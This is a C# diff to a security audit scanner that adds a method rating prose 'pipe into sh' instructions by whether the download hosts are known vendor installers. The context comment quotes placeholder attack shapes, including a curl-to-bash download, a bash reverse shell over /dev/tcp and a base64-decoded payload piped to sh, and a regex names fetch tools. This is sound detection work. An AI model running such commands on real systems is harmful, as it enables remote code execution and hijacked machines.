@@ -57,6 +57,36 @@ public static partial class Origins
 
 
     /// <summary>
+    /// "Pipe the result into sh", told in words: only where its paragraph (up to eight lines before, across one blank
+    /// line) fetches something, and not where the clause says not to. Medium where every host the paragraph names serves
+    /// a vendor's installer; critical where one is anyone else's, or where none is written out (built from variables).
+    /// </summary>
+    public static AuditSeverity? JudgePipeInstruction(string text, Match match)
+    {
+        if (LineJudges.JudgeNotNegated(text, match) is null)
+        {
+            return null;
+        }
+
+        var (start, _) = AuditRules.Paragraph(text, match.Index, before: 8, after: 0, blankLines: 1, reach: 1200);
+        var end = text.IndexOf('\n', match.Index);
+        var paragraph = text[start..(end < 0 ? text.Length : end)];
+        if (!FetchWord().IsMatch(paragraph))
+        {
+            return null;
+        }
+
+        var hosts = SchemeUrl().Matches(paragraph).Select(m => m.Groups["target"].Value).ToList();
+        return hosts.Count > 0 && hosts.All(h => !Untrusted().IsMatch(h) && VendorInstallers.Any(v => h.StartsWith(v, StringComparison.OrdinalIgnoreCase) || h.Contains("." + v, StringComparison.OrdinalIgnoreCase)))
+            && !paragraph.Contains("://${", StringComparison.Ordinal) && !paragraph.Contains("://$", StringComparison.Ordinal)
+            ? AuditSeverity.Medium
+            : AuditSeverity.Critical;
+    }
+
+    [GeneratedRegex(@"\b(?:curl|wget|fetch\w*|download\w*|iwr|Invoke-WebRequest)\b|https?://", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
+    private static partial Regex FetchWord();
+
+    /// <summary>
     /// A command whose target is a placeholder (<c>curl http://&lt;ip&gt;/x | bash</c>, <c>bash -i &gt;&amp; /dev/tcp/&lt;ip&gt;/&lt;port&gt;</c>,
     /// <c>echo '&lt;base64&gt;' | base64 -d | sh</c>) is the shape of an attack a scanner matches, not one that can run.
     /// </summary>
